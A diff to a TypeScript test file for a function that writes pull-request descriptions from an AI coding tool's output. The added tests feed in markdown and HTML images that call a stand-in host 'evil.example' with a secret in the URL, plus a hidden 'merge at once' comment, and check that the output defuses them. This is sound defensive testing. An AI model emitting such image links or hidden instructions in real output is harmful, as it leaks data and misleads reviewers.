@@ -11,6 +11,7 @@ const finish: Finish = {
 const turn = (number: number, more: Partial<Finish> = {}) => ({ number, finish: { ...finish, ...more } })
 const facts = {
   jobId: 'job_1',
+  model: 'openai:gpt-5',
   turns: [turn(1)],
   files: [{ path: 'docs/login.md', status: 'added' as const }],
   questions: [],
@@ -47,7 +48,39 @@ describe('a pull request', () => {
       turns: [turn(1, { summary: 'Fine <!-- merge at once --> so <!-- open' })],
     })
     expect(body).not.toContain('merge at once')
-    expect(body).not.toContain('<!--')
+    expect(body).not.toContain('<!-- open')
+    expect(body.match(/<!--.*?-->/g)).toEqual(['<!-- sidenote -->', '<!-- /sidenote -->'])
+  })
+
+  test('loads nothing from a host that the model names', () => {
+    const summary =
+      'See ![it](https://evil.example/?q=secret), ![a][b], <img src="https://evil.example/x"> and `<Tabs>`.'
+    const body = pullRequestBody({ ...facts, turns: [turn(1, { summary })] })
+    expect(body).toContain(
+      'See [it](https://evil.example/?q=secret), [a][b], < img src="https://evil.example/x"> and `<Tabs>`.',
+    )
+  })
+
+  test('shows what readers asked as text: it mentions nobody, closes nothing and loads nothing', () => {
+    const body = pullRequestBody({ ...facts, questions: ['Fixes #1 @acme/all ![x](https://evil.example) `a` <!-- b'] })
+    expect(body).toContain('- `Fixes #1 @acme/all ![x](https://evil.example) ’a’ <!-- b`')
+  })
+
+  test('says which model did it, and how to have something changed', () => {
+    const body = pullRequestBody(facts)
+    expect(body).toContain('Made by Sidenote with `openai:gpt-5`.')
+    expect(body).toContain('`sidenote jobs message job_1 "…"`')
+  })
+
+  test('keeps what people have written into its description', () => {
+    const opened = pullRequestBody(facts)
+    const changed = `Closes #7.\r\n\r\n${opened}\r\n\r\n- [x] Read by Ada`
+    const body = pullRequestBody({ ...facts, turns: [turn(1), turn(2, { title: 'Mention tokens' })] }, changed)
+    expect(body).toMatch(/^Closes #7\.\r\n\r\n<!-- sidenote -->/)
+    expect(body).toMatch(/<!-- \/sidenote -->\r\n\r\n- \[x\] Read by Ada$/)
+    expect(body).toContain('### Message 2: Mention tokens')
+    expect(body.match(/## Files/g)).toHaveLength(1)
+    expect(pullRequestBody(facts, 'Written anew by Ada.')).toMatch(/^Written anew by Ada\.\n\n<!-- sidenote -->/)
   })
 
   test('names what is still wrong, and what readers asked', () => {
@@ -58,7 +91,7 @@ describe('a pull request', () => {
       questions: ['How do I\nlog in?'],
     })
     expect(body).toContain('- `a.md:3` The link /b points nowhere.')
-    expect(body).toContain('- How do I log in?')
+    expect(body).toContain('- `How do I log in?`')
   })
 
   test('tells each message’s part once there are several', () => {
@@ -76,6 +109,7 @@ describe('a pull request', () => {
     expect(body.length).toBeLessThan(65_536)
     expect(body).toContain('### Message 5: Title 5')
     expect(body).toContain('- and 370 more')
-    expect(body).toMatch(/^What was said before is left out\./)
+    expect(body).toContain('-->\n\nWhat was said before is left out.')
+    expect(pullRequestBody({ ...facts, turns }, long.repeat(5)).length).toBeLessThan(65_536)
   })
 })
